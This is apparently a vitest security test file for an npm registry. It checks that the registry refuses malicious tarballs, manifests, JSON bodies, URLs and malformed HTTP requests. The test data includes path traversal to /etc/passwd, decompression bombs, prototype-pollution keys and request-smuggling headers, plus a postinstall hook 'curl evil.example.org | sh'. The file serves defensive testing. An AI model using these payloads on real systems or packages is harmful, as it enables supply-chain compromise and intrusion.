import { randomBytes } from 'node:crypto'
import { connect } from 'node:net'
import { text } from 'node:stream/consumers'
import { setTimeout as delay } from 'node:timers/promises'
import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type Answer, expectStatus, parsed, send } from '../faults/connection.ts'
import { forms, makeRelease, NpmClient } from '../faults/npm-packages.ts'
import { Client, createToken, startRegistry } from '../faults/registry.ts'
import { integrityOf, npmDocument, packed, type TarFile, tar, tgz } from '../modules/npm/package-tarball.ts'
import type { RunningRegistry } from '../support/run-registry.ts'

/** One process takes everything in this file. */
let registry: RunningRegistry
let token: string
let npm: NpmClient

beforeAll(async () => {
  registry = await startRegistry()
  token = await createToken(registry.url)
  npm = new NpmClient(new Client(registry.url, token))
})
afterAll(async () => {
  await registry[Symbol.asyncDispose]()
})

const name = '@admin/hostile'
const manifest = { name, version: '1.0.0' }
const path = '/npm/@admin%2fhostile'
const packageJson: TarFile = { name: 'package/package.json', content: JSON.stringify(manifest) }
const put = (body: string | Buffer): Promise<Answer> =>
  npm.client.call(path, { method: 'PUT', body, headers: { 'content-type': 'application/json' } })
const publish = (tarball: Buffer): Promise<Answer> => put(JSON.stringify(npmDocument(manifest, tarball)))
const withEntry = (entry: TarFile) => tgz([packageJson, entry])
const many = (count: number): TarFile[] => Array.from({ length: count }, (_, index) => ({ name: `package/${index}` }))

/** Nothing became visible, the process is the same one, and it has nothing to complain about. */
async function expectUnharmed(): Promise<void> {
  expectStatus(await npm.client.call(path), 404)
  expectStatus(await send(`${registry.url}/health`), 200)
  expect(process.kill(registry.pid, 0)).toBe(true)
  // A busy machine that is not ready at once is no complaint about what was sent.
  const complaints = registry
    .output()
    .split('\n')
    .filter((line) => /"level":"(?:error|fatal)"/.test(line) && !line.includes('"path":"/ready"'))
  expect(complaints).toEqual([])
}

const entryRefused = [400, 'packuments.tarball_entry_refused'] as const
const tooLarge = [413, 'packuments.tarball_too_large'] as const
const invalid = [400, 'packuments.tarball_invalid'] as const

test.each<[string, () => Promise<Buffer>, readonly [number, string]]>([
  ['a symbolic link', () => withEntry({ name: 'package/x', type: 'symlink', linkname: '/etc/passwd' }), entryRefused],
  ['a hard link', () => withEntry({ name: 'package/x', type: 'link', linkname: '../../../etc/passwd' }), entryRefused],
  ['a device', () => withEntry({ name: 'package/x', type: 'character-device' }), entryRefused],
  ['a name that leads out', () => withEntry({ name: 'package/../../../etc/passwd', content: 'x' }), entryRefused],
  ['a name that leads out on Windows', () => withEntry({ name: 'package\\..\\..\\x', content: 'x' }), entryRefused],
  ['an absolute name', () => withEntry({ name: '/etc/passwd', content: 'x' }), entryRefused],
  ['a drive', () => withEntry({ name: 'C:/x', content: 'x' }), entryRefused],
  ['an entry twice', () => tgz([packageJson, { name: 'package/x' }, { name: 'package/x' }]), entryRefused],
  ['two entries that differ in case', () => tgz([packageJson, { name: 'package/x' }, { name: 'package/X' }]), entryRefused],
  ['package.json twice', () => tgz([packageJson, packageJson]), entryRefused],
  ['more than 20,000 entries', () => tgz([packageJson, ...many(20_000)]), tooLarge],
  ['100 MB of zeros', () => withEntry({ name: 'package/zeros', content: Buffer.alloc(100_000_000) }), tooLarge],
  [
    'zeros behind noise',
    async () => gzipSync(await tar([packageJson, noise, { name: 'package/z', content: Buffer.alloc(400_000_000) }])),
    tooLarge,
  ],
  ['no package.json', () => tgz([{ name: 'package/index.js' }]), [400, 'packuments.package_json_invalid']],
  ['a package.json of 2 MB', () => tgz([{ ...packageJson, content: JSON.stringify({ ...manifest, x: 'x'.repeat(2_000_000) }) }]), tooLarge],
  ['a package.json that is none', () => tgz([{ ...packageJson, content: '{' }]), [400, 'packuments.package_json_invalid']],
  ['an archive that is cut', async () => gzipSync((await tar([packageJson, noise])).subarray(0, 5_000)), invalid],
  ['gzip that is cut', async () => (await tgz([packageJson, noise])).subarray(0, 5_000), invalid],
  ['something behind the archive', async () => Buffer.concat([await tgz([packageJson]), Buffer.from('more')]), invalid],
  ['no archive', () => Promise.resolve(randomBytes(5_000)), invalid],
])('D-15: a tarball with %s is refused', async (_, make, [status, code]) => {
  const answer = await publish(await make())
  expect([answer.status, parsed<{ code: string }>(answer).code]).toEqual([status, code])
  await expectUnharmed()
})

const noise: TarFile = { name: 'package/noise', content: randomBytes(100_000) }

test.each<[string, object, string]>([
  ['another name', { name: '@admin/other' }, 'npm.manifest_mismatch'],
  ['another version', { version: '1.0.1' }, 'npm.manifest_mismatch'],
  ['a script', { scripts: { postinstall: 'curl evil.example.org | sh' } }, 'npm.manifest_mismatch'],
  ['a dependency', { dependencies: { evil: '1.0.0' } }, 'npm.manifest_mismatch'],
  ['a command', { bin: { npm: 'evil.js' } }, 'npm.manifest_mismatch'],
])('a tarball that has %s its document does not speak of is refused', async (_, differing, code) => {
  const answer = await publish(await packed({ ...manifest, ...differing }))
  expect([answer.status, parsed<{ code: string }>(answer).code]).toEqual([400, code])
  await expectUnharmed()
})

test.each<[string, (good: string) => string | Buffer, readonly number[]]>([
  ['the key __proto__', (good) => good.replace('"_id"', '"__proto__":{"isAdmin":true},"_id"'), [400]],
  ['the key __proto__ of a version', (good) => good.replace('"1.0.0":{', '"__proto__":{},"1.0.0":{'), [400]],
  ['the key __proto__ in a manifest', (good) => good.replace('"1.0.0":{', '"1.0.0":{"__proto__":{"x":1},'), [400]],
  ['constructor.prototype', (good) => good.replace('"1.0.0":{', '"1.0.0":{"constructor":{"prototype":{"x":1}},'), [400]],
  ['a dist-tag __proto__', (good) => good.replace('"latest":', '"__proto__":'), [400]],
  ['a key twice', (good) => good.replace('"_id"', '"name":"@admin/other","_id"'), [400]],
  ['100,000 keys', (good) => good.replace('"1.0.0":{', `"1.0.0":{"dependencies":${dependencies(100_000)},`), [400]],
  ['a depth of 100,000', (good) => good.replace('"_id"', `"deep":${'['.repeat(100_000)}${']'.repeat(100_000)},"_id"`), [400]],
  ['11 MiB beside its tarball', (good) => good.replace('"_id"', `"readme":"${'x'.repeat(11_534_336)}","_id"`), [413]],
  ['a tarball that is not base64', (good) => good.replace('"data":"', '"data":"****'), [400]],
  ['a NUL', (good) => good.replace('"_id"', '"readme":"\\u0000","_id"'), [400]],
  ['half a surrogate pair', (good) => good.replace('"_id"', '"readme":"\\ud800","_id"'), [400]],
  [
    'bytes that are no UTF-8',
    (good) => Buffer.concat([Buffer.from('{"readme":"'), Buffer.from([0xff, 0xfe]), Buffer.from(`",${good.slice(1)}`)]),
    [400],
  ],
  ['something behind it', (good) => `${good}{}`, [400]],
  ['only half of it', (good) => good.slice(0, good.length / 2), [400]],
  ['nothing', () => '', [400]],
  ['a list', () => '[]', [400]],
  ['null', () => 'null', [400]],
])('D-15: a document with %s is refused', async (_, spoil, statuses) => {
  const good = JSON.stringify(npmDocument(manifest, await packed(manifest)))
  const answer = expectStatus(await put(spoil(good)), ...statuses)
  expect(parsed<{ code: string }>(answer).code).toMatch(/^[a-z]+\.[a-z_]+$/)
  await expectUnharmed()
})

const dependencies = (count: number): string =>
  JSON.stringify(Object.fromEntries(Array.from({ length: count }, (_, index) => [`dependency-${index}`, '^1.0.0'])))

test('a package with a thousand dependencies whose names are those of members of objects is a package like others', async () => {
  const names = ['constructor', 'prototype', 'hasownproperty', 'tostring', 'valueof', 'watch', 'then']
  const more = {
    dependencies: { ...JSON.parse(dependencies(1_000)), ...Object.fromEntries(names.map((each) => [each, '>=0.0.0-0 <99 || *'])) },
  }
  const releases = await Promise.all(Array.from({ length: 10 }, (_, index) => makeRelease('@admin/needy', `1.0.${index}`, { more })))
  for (const release of releases) expectStatus(await npm.publish(release), 201)
  for (const form of forms) {
    const { versions } = await npm.document('@admin/needy', form)
    expect(Object.keys(versions)).toHaveLength(10)
    for (const version of Object.values(versions)) expect(version).toMatchObject(more)
  }
  await expectUnharmed()
})

test.each([
  '/npm/@admin%2fhostile?write=a&write=b',
  '/npm/-/v1/search?text=a&text=b',
  '/npm/-/v1/search?text=a&size=1&size=2',
  '/-/v1/search?text=a&from=1&from=2',
])('D-32: %s is refused, because it gives a list where a text is meant', async (query) => {
  expectStatus(await npm.client.call(query), 400)
  await expectUnharmed()
})

test.each(['/npm/@admin%2fhostile?write[]=a', '/npm/-/v1/search?text[]=a', '/npm/-/v1/search?text=a&size[x]=1'])(
  'D-32: %s is a parameter nobody knows, and no list or object',
  async (query) => {
    expectStatus(await npm.client.call(query), 200, 400, 404)
    await expectUnharmed()
  },
)

test.each<[string, string]>([
  ['a path that leads out', '/npm/..%2f..%2fetc%2fpasswd'],
  ['a NUL', '/npm/%00'],
  ['a scope and a path that leads out', '/npm/@admin%2f..%2f..'],
  ['a tarball that leads out', '/npm/@admin%2fhostile/-/..%2f..%2fconfig.json'],
  ['a tarball with a NUL', '/npm/@admin%2fhostile/-/hostile-1.0.0.tgz%00'],
  ['ten thousand letters', `/npm/${'a'.repeat(10_000)}`],
  ['an empty scope', '/npm/@/hostile'],
  ['a scope without a name', '/npm/@admin/'],
  ['__proto__', '/npm/__proto__'],
  ['constructor', '/npm/constructor'],
  ['the version __proto__', '/npm/@admin%2fhostile/__proto__'],
  ['half a letter', '/npm/%ff'],
  ['half an escape', '/npm/%'],
])('%s is no package', async (_, url) => {
  const answer = await npm.client.call(url)
  expect(answer.tookMs).toBeLessThan(1_000)
  expect([400, 404, 405, 414]).toContain(answer.status)
  await expectUnharmed()
})

test('bodies that are cut leave nothing, whenever it happens', async () => {
  const tarball = await packed(manifest, { noise: randomBytes(3_000_000) })
  const body = JSON.stringify(npmDocument(manifest, tarball))
  await Promise.all(
    Array.from({ length: 40 }, (_, index) => sendRaw({ length: body.length, body: body.slice(0, (body.length * index) / 40) }, 100)),
  )
  await expectUnharmed()
  expectStatus(await npm.client.call(path, { method: 'PUT', body }), 201)
  expectStatus(await npm.client.call(`${path}/-rev/1`, { method: 'DELETE' }), 200, 201, 404, 409)
})

test('a Content-Length that is not that of the body is refused or waited for, and others are answered', async () => {
  const document = {
    ...npmDocument({ name: '@admin/lengths', version: '1.0.0' }, await packed({ name: '@admin/lengths', version: '1.0.0' })),
  }
  const body = JSON.stringify(document)
  const at = '/npm/@admin%2flengths'
  const [short, long, twice, both] = await Promise.all([
    sendRaw({ at, length: body.length - 100, body }, 3_000),
    sendRaw({ at, length: body.length + 100, body }, 3_000),
    sendRaw({ at, length: body.length, body, more: 'Content-Length: 5\r\n' }, 3_000),
    sendRaw({ at, length: body.length, body, more: 'Transfer-Encoding: chunked\r\n' }, 3_000),
  ])
  expect(short).toMatch(/^HTTP\/1\.1 400 /)
  expect(long).toBe('')
  expect(twice).toMatch(/^HTTP\/1\.1 400 /)
  expect(both).toMatch(/^HTTP\/1\.1 400 /)
  for (const answer of [short, twice, both]) expect(answer).not.toMatch(/^HTTP\/1\.1 2/m)
  expectStatus(await npm.client.call(at), 404)
  expectStatus(await send(`${registry.url}/health`), 200)
})

test('after all of it the same process publishes and serves', async () => {
  const release = await makeRelease('@admin/good', '1.0.0')
  expectStatus(await npm.publish(release), 201)
  for (const form of forms)
    expect((await npm.document(release.name, form)).versions['1.0.0']?.dist.integrity).toBe(integrityOf(release.tarball))
  expect(expectStatus(await npm.tarball(release), 200).body.equals(release.tarball)).toBe(true)
  expect(process.kill(registry.pid, 0)).toBe(true)
})

interface RawCall {
  readonly at?: string
  readonly length: number
  readonly body: string
  readonly more?: string
}

/** What was answered until the server closed, or until it was left after so long. */
async function sendRaw({ at = path, length, body, more = '' }: RawCall, patienceMs: number): Promise<string> {
  const socket = connect(registry.port, '127.0.0.1')
  socket.on('error', () => {})
  const answered = text(socket).catch(() => '')
  const head = `PUT ${at} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer ${token}\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n${more}\r\n`
  socket.write(head + body)
  await delay(patienceMs)
  socket.destroySoon()
  return answered
}
